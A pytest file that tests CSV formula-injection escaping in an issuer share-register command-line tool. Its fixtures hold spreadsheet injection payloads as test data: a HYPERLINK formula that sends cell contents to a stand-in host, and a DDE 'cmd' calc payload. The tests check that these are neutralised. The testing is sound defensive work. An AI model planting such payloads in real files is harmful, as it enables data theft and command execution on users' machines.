"""CSV in a spreadsheet: no cell is run as a formula, and figures stay figures."""

from __future__ import annotations

import csv
import io
import json

import pytest

from commands.terminal.output import Column, count, csv_text
from tests.conftest import Typed

REGISTER = "issuer register ACME --name Acme --currency JPY --fiscal-year-end 03-31 --profile jp"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


@pytest.fixture
def acme(capital: Typed) -> Typed:
    """An issuer whose codes, references, titles and reasons begin as formulas do."""
    capital.ok(*REGISTER.split())
    capital.ok(
        *"class open ACME @SUM(A1) --on 2020-03-31 --issued 1000 --treasury 100".split(),
        "--authorized", "4000", "--source-title", FORMULA,
    )  # fmt: skip
    capital.ok(
        *"acquisition acquire ACME =1+1 --class @SUM(A1) --on 2020-06-01 --shares 5".split(),
        *"--cause OTHER --source-title".split(), "+cmd|' /C calc'!A0",
    )  # fmt: skip
    capital.ok(
        *"dividend resolve ACME =d --class @SUM(A1) --on 2020-05-01 --term YEAR_END".split(),
        *"--fiscal-year-end 2020-03-31 --per-share 10".split(),
    )
    return capital


QUESTIONS = [
    "shares ACME", "shares ACME --history", "shares --all", "treasury ACME", "dividends ACME",
    "actions ACME", "action ACME =1+1", "explain shares ACME", "explain treasury ACME",
    "calendar ACME --from 2020-01-01", "check ACME", "rules",
]  # fmt: skip


@pytest.mark.parametrize("words", QUESTIONS)
def test_no_cell_of_a_csv_begins_as_a_formula(acme: Typed, words: str) -> None:
    printed = acme(*words.split(), "--format", "csv").stdout

    cells = [cell for row in csv.reader(io.StringIO(printed)) for cell in row]
    assert cells
    assert not [cell for cell in cells if cell[:1] in set("=+@\t\r\n")]


def test_raw_gives_programs_the_text_as_it_is(acme: Typed) -> None:
    safe = acme.ok("actions", "ACME", "--format", "csv")
    raw = acme.ok("actions", "ACME", "--format", "csv", "--raw")

    assert "\n'=1+1,acquisition,'@SUM(A1)," in safe
    assert "\n=1+1,acquisition,@SUM(A1)," in raw


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\uff1d1", "'\uff1d1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r'=1"),
        ("a;=1", "a;'=1"),
        ("a; b", "a; b"),
        ("a=1", "a=1"),
        ("-1", "-1"),
        ("-12.50", "-12.50"),
        ("2020-03-31", "2020-03-31"),
        ("'quoted", "'quoted"),
        ('say "x", y', '"say ""x"", y"'),
    ],
)
def test_only_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, cell: str) -> None:
    assert csv_text([Column("a", "a", lambda row: row)], [text]) == f"a\n{cell}\n"


def test_negative_numbers_stay_numbers() -> None:
    assert csv_text([count("a", "a", lambda row: row)], [-5, 0]) == "a\n-5\n0\n"


def test_an_export_is_read_back_as_it_was_whatever_its_text(acme: Typed, capital: Typed) -> None:
    lines = acme.ok("export")

    assert json.loads(lines.splitlines()[1])["source"]["title"] == FORMULA
    assert "nothing to add" in acme.ok("import", "-", stdin=lines)
